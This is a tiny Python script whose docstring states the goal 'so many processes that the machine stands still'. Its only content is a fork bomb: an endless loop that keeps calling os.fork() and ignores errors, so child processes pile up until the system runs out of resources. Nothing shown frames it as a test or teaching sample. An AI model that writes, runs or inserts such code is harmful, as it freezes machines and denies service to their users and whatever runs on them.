# ruff: noqa
"""
goal = "so many processes that the machine stands still"
"""

# %% last
import os
import time

while True:
    try:
        if os.fork() == 0:
            time.sleep(60)
    except OSError:
        pass
